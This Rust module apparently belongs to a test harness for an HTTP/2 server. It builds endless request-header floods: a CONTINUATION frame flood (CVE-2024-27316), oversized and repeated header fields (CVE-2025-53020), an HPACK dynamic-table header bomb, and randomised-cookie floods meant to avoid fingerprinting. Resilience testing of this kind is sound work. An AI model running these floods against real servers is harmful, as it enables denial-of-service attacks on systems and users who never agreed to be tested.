//! Request heads that are too large, too many, or have no end.

use std::sync::Arc;

use super::frames::{CONTINUATION, END, END_HEADERS, HEADERS, block, field, frame, greeting, integer};
use super::stage::Stage;
use super::wire::attack;

/// CVE-2024-27316 and its kin: a head that goes on in CONTINUATION frames without end.
pub(crate) async fn continuation(stage: &Arc<Stage>, payload: Vec<u8>) {
    let batch = frame(CONTINUATION, 0, 1, &payload).repeat(20);
    attack(stage, 4, true, greeting(&[]), async |wire| {
        wire.send(&frame(HEADERS, END, 1, &block("GET", "/", &[]))).await?;
        loop {
            wire.send(&batch).await?;
        }
    })
    .await;
}

/// 16,000 bytes of small fields.
pub(crate) fn small_fields() -> Vec<u8> {
    field("x-a", "b").repeat(2000)
}

/// One field after another of 8,000 bytes.
pub(crate) fn large_field() -> Vec<u8> {
    field("cookie", &"c".repeat(8000))
}

/// Requests with these fields, a hundred streams at once.
async fn requests(stage: &Arc<Stage>, fields: Vec<u8>) {
    let block = [block("GET", "/small.png", &[]), fields].concat();
    attack(stage, 4, true, greeting(&[]), async |wire| {
        let mut stream = 1;
        loop {
            let flags = if block.len() > 16_000 { END } else { END | END_HEADERS };
            for _ in 0..20 {
                let mut frames = frame(HEADERS, flags, stream, &block[..block.len().min(16_000)]);
                if let Some(rest) = block.get(16_000..) {
                    frames.extend(frame(CONTINUATION, END_HEADERS, stream, rest));
                }
                wire.send(&frames).await?;
                stream += 2;
            }
            let last = stream - 2;
            while wire.next().await?.stream != last {}
        }
    })
    .await;
}

/// As much as a head may have (16 KiB), as one cookie.
pub(crate) async fn largest(stage: &Arc<Stage>) {
    requests(stage, field("cookie", &"c".repeat(15_000))).await;
}

/// Twice as much: 431, or a reset.
pub(crate) async fn too_large(stage: &Arc<Stage>) {
    requests(stage, [field("cookie", &"c".repeat(15_000)), field("x-more", &"d".repeat(15_000))].concat()).await;
}

/// CVE-2025-53020: one name, many times.
pub(crate) async fn repeated(stage: &Arc<Stage>) {
    requests(stage, field("x-a", "b").repeat(300)).await;
}

/// A head of a few bytes that the dynamic table makes into 64 KB: an entry of 4,000 bytes, named 16 times; and into
/// as much as one frame can name.
pub(crate) async fn bomb(stage: &Arc<Stage>, times: usize) {
    attack(stage, 4, true, greeting(&[]), async |wire| {
        let mut entry = vec![0x40];
        integer(&mut entry, 5);
        entry.extend(b"x-big");
        integer(&mut entry, 4000);
        entry.extend([b'v'; 4000]);
        let first = [block("GET", "/small.png", &[]), entry].concat();
        wire.send(&frame(HEADERS, END | END_HEADERS, 1, &first)).await?;
        let block = [block("GET", "/small.png", &[]), vec![0xbe; times]].concat();
        let mut stream = 3;
        loop {
            let batch: Vec<u8> =
                (0..20).flat_map(|n| frame(HEADERS, END | END_HEADERS, stream + 2 * n, &block)).collect();
            wire.send(&batch).await?;
            stream += 40;
            let last = stream - 2;
            while wire.next().await?.stream != last {}
        }
    })
    .await;
}

/// The characters of our cookie's value.
const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// Cookies that are no fingerprint: each another, as long as ours may be and longer.
pub(crate) async fn crafted_cookies(stage: &Arc<Stage>) {
    attack(stage, 4, true, greeting(&[]), async |wire| {
        let mut stream = 1;
        let mut noise = 1_u64;
        loop {
            let mut batch = Vec::new();
            for n in 0..20 {
                let value: String = (0..100 + 150 * n)
                    .map(|_| {
                        noise = noise.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                        char::from(ALPHABET[(noise >> 58) as usize])
                    })
                    .collect();
                let cookie = format!("__Host-headstart={value}");
                let fields = [("cookie", &*cookie), ("sec-fetch-mode", "navigate"), ("sec-fetch-dest", "document")];
                batch.extend(frame(HEADERS, END | END_HEADERS, stream, &block("GET", "/", &fields)));
                stream += 2;
            }
            wire.send(&batch).await?;
            let last = stream - 2;
            while wire.next().await?.stream != last {}
        }
    })
    .await;
}
